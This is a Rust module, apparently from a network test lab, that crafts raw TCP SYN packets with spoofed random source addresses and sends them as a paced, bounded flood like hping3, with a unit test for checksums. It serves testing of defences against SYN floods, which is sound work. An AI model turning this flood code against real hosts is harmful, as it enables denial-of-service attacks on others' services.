//! A random-source SYN flood from the attacker namespace, as `hping3 -S
//! --rand-source --flood` sends it (20-byte TCP header, no options), but
//! with its sources drawn from the lab's spoofed range only and paced to
//! a set rate, bounded in count and time. A raw IPv4 socket with the
//! header included: the kernel fills in the IP checksum and length.

use std::{
    net::Ipv4Addr,
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    time::{Duration, Instant},
};

use anyhow::Context as _;

use super::lab::SPOOFED_PREFIX;

pub struct FloodReport {
    pub sent: u64,
    pub secs: f64,
}

impl FloodReport {
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.secs.max(1e-9)
    }
}

/// xorshift64*: plenty for spreading sources and ports.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn checksum_add(sum: &mut u32, bytes: &[u8]) {
    for pair in bytes.chunks(2) {
        let hi = u32::from(pair[0]) << 8;
        *sum += hi | pair.get(1).map_or(0, |&lo| u32::from(lo));
    }
}

fn fold(mut sum: u32) -> u16 {
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// One SYN: IPv4 header (checksum and length left to the kernel), TCP.
fn syn(rng: &mut Rng, dst: Ipv4Addr, port: u16) -> ([u8; 40], Ipv4Addr) {
    let r = rng.next();
    let src = Ipv4Addr::new(
        SPOOFED_PREFIX[0],
        SPOOFED_PREFIX[1],
        r as u8,
        (r >> 8) as u8,
    );
    let sport = 1024 + ((r >> 16) as u16 % 64_000);
    let seq = (r >> 32) as u32;
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[8] = 64; // TTL
    p[9] = 6; // TCP
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let tcp = &mut p[20..];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&port.to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 5 << 4; // data offset: 20 bytes
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&512u16.to_be_bytes()); // window, as hping3
    let mut sum = 0u32;
    checksum_add(&mut sum, &src.octets());
    checksum_add(&mut sum, &dst.octets());
    checksum_add(&mut sum, &[0, 6, 0, 20]);
    checksum_add(&mut sum, tcp);
    tcp[16..18].copy_from_slice(&fold(sum).to_be_bytes());
    (p, src)
}

fn raw_socket() -> anyhow::Result<OwnedFd> {
    // SAFETY: plain socket creation; the fd is owned below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error()).context("opening a raw IPv4 socket");
    }
    // SAFETY: a fresh fd nobody else owns.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// Sends SYNs to `dst:port` at `rate` per second for `duration` (so at
/// most rate × duration of them), from the calling thread's namespace.
pub fn flood(
    dst: Ipv4Addr,
    port: u16,
    rate: u64,
    duration: Duration,
) -> anyhow::Result<FloodReport> {
    let socket = raw_socket()?;
    // SAFETY: a zeroed sockaddr_in is valid; family and address set.
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as u16;
    to.sin_addr.s_addr = u32::from_ne_bytes(dst.octets());
    let limit = rate * duration.as_millis() as u64 / 1000;
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id()));
    let start = Instant::now();
    let mut sent = 0u64;
    while sent < limit && start.elapsed() < duration {
        // Pace in 1 ms steps: catch up to the schedule, never more than
        // 10 ms of it at once after a stall.
        let due = (rate as f64 * start.elapsed().as_secs_f64()) as u64;
        let burst = due.saturating_sub(sent).min(rate / 100).min(limit - sent);
        for _ in 0..burst {
            let (packet, _) = syn(&mut rng, dst, port);
            // SAFETY: packet and address are valid for the sizes given.
            let n = unsafe {
                libc::sendto(
                    socket.as_raw_fd(),
                    packet.as_ptr().cast(),
                    packet.len(),
                    0,
                    (&raw const to).cast(),
                    std::mem::size_of::<libc::sockaddr_in>() as u32,
                )
            };
            if n < 0 {
                let err = std::io::Error::last_os_error();
                // A full device queue drops the SYN, as it would hping3's.
                if err.raw_os_error() != Some(libc::ENOBUFS) {
                    return Err(err).context("sending a SYN");
                }
            }
            sent += 1;
        }
        std::thread::sleep(Duration::from_micros(500));
    }
    Ok(FloodReport {
        sent,
        secs: start.elapsed().as_secs_f64(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksum_verifies_and_source_is_in_the_lab_range() {
        let mut rng = Rng(7);
        let dst = Ipv4Addr::new(198, 19, 254, 2);
        for _ in 0..100 {
            let (p, src) = syn(&mut rng, dst, 8080);
            assert_eq!(&src.octets()[..2], &SPOOFED_PREFIX);
            let mut sum = 0u32;
            checksum_add(&mut sum, &p[12..20]);
            checksum_add(&mut sum, &[0, 6, 0, 20]);
            checksum_add(&mut sum, &p[20..]);
            assert_eq!(fold(sum), 0);
            assert_eq!(u16::from_be_bytes([p[22], p[23]]), 8080);
            assert_eq!(p[33], 0x02);
        }
    }
}
